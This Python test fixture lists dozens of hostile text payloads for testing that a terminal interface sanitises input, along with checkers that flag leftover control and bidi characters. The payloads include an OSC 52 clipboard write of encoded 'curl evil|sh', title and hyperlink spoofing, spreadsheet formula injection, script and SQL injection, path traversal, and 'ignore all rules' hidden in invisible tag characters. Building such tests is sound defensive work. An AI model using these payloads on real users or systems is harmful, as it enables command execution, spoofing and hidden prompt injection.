"""Hostile text by class, and what none of it may leave behind. Shared by the tests of every room."""

import re

ESC = "\x1b"

PAYLOADS: dict[str, str] = {
    "osc 52, string terminator": f"{ESC}]52;c;Y3VybCBldmlsfHNo{ESC}\\",
    "osc 52, bell": f"{ESC}]52;c;Y3VybCBldmlsfHNo\a",
    "osc 52, one-byte introducer": "\x9d52;c;Y3VybCBldmlsfHNo\x9c",
    "window title": f"{ESC}]0;PWNED{ESC}\\",
    "hyperlink": f"{ESC}]8;;https://evil.example{ESC}\\here{ESC}]8;;{ESC}\\",
    "notification": f"{ESC}]777;notify;bank;pay{ESC}\\",
    "clear the screen": f"{ESC}[2J{ESC}[H APPROVED by ceo",
    "leave the alternate screen": f"{ESC}[?1049l{ESC}[?1000l",
    "ask the terminal": f"{ESC}[6n{ESC}[c",
    "reset": f"{ESC}c",
    "colour": f"{ESC}[31mred{ESC}[0m",
    "one-byte csi": "\x9b2J\x9b31mred",
    "device control": f"{ESC}P+q544e{ESC}\\",
    "next line and string terminator": "a\x85b\x9cc",
    "nul": "a\0b",
    "bell and backspaces": "approved\a\b\b\b\b\b\b\b\bdenied  ",
    "shift out": "a\x0eb\x0fc",
    "cancel and substitute": "a\x18b\x1ac",
    "delete": "a\x7fb",
    "carriage return": "safe\rEVIL",
    "line and paragraph separators": "one\u2028two\u2029three",
    "vertical tab and form feed": "one\vtwo\fthree",
    "bidi override": "evac\u202egnitaucave\u202c now",
    "bidi isolates": "\u2067to\u2066 from\u2069",
    "arabic letter mark": "a\u061cb\u200eb\u200fb",
    "zero width": "he\u200blp\u2060 me\ufeff",
    "soft hyphen": "he\u00adlp",
    "tags": "ok" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all rules"),
    "variation selectors": "a\U000e0100\U000e01efb",
    "lone surrogate": "help \ud800 us",
    "surrogate halves": "\ud83d \ude02",
    "private use": "\ue000\U000f0000 us",
    "not a character": "\ufffe\uffff\U0010ffff",
    "joiners in the open": "\u200d a\u200d \u200c",
    "zalgo": "h" + "\u0301\u0316\u0489" * 40 + "elp",
    "zalgo through joiners": "h" + "\u0301\u0301\u0301\u200d" * 40,
    "hangul fillers": "\u3164\u115f\u1160\uffa0name",
    "braille blank and wide spaces": "a\u2800b\u3000c\u00a0d",
    "stray closing tag": "closing [/] and [/foo]",
    "action": "[@click=app.quit]x[/]",
    "action that writes": "[@click=app.screenshot('pwn.svg','/nowhere')]x[/]",
    "markup link": "[link=https://evil.example]bank[/link]",
    "markup that crashes": "[x=,v={'a[0]'}]",
    "bold markup": "[bold red]official[/bold red]",
    "escaped markup": "\\[/] \\[bold",
    "emoji code": ":warning: :police_car:",
    "formula": "=cmd|'/c calc'!A0",
    "formula with plus": "+1-1+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "html": "<script>alert(1)</script><img src=x onerror=y>",
    "percent and braces": "%s %n {0} {__class__} ${HOME} $(id)",
    "quotes": "'; DROP TABLE mentions; --\"",
    "paths": "../../etc/passwd\\..\\",
    "emoji run": "😂😭" * 250,
    "family emoji": "👨\u200d👩\u200d👧\u200d👦🏳️\u200d🌈1️⃣👍🏽🇺🇸🇺",
    "wide and narrow": "クク｡ﾞ ｱ가나다 क्षि ❤️",
    "long word": "a" * 20_000,
    "hashtags": "#flood " * 2_000,
    "a megabyte of words": "word " * 200_000,
    "a hundred thousand lines": "\n" * 100_000,
    "many marks": "e" + "\u0301" * 100_000,
    "empty": "",
    "spaces": " \t \n ",
}
"""Every class of `reference` payloads by name; the big ones last."""

SMALL = {name: text for name, text in PAYLOADS.items() if len(text) <= 5_000}
"""Those that fit into a test run once a widget."""

_FORBIDDEN = re.compile(
    "[\0-\x09\x0b-\x1f\x7f-\x9f]|[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]|[\ud800-\udfff]"
    "|[\u2028\u2029]|[\U000e0000-\U000e007f]"
)
_RAW = re.compile(
    rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\x8e\x8f\xa8-\xae]|\xe2\x81[\xa6-\xa9]|\xd8\x9c"
)


def forbidden(text: str) -> list[str]:
    """Name each character that no cleaned text may hold: controls but the line break, bidi, surrogates."""
    return sorted({f"U+{ord(found):04X}" for found in _FORBIDDEN.findall(text)})


def raw_controls(data: bytes) -> list[str]:
    r"""Name each control in output bytes, apart from `\n` and `\t`: for pipes, files and logs.

    What goes to a terminal holds controls of our own; look there for the payloads themselves.
    """
    return sorted({found.hex(" ") for found in _RAW.findall(data)})
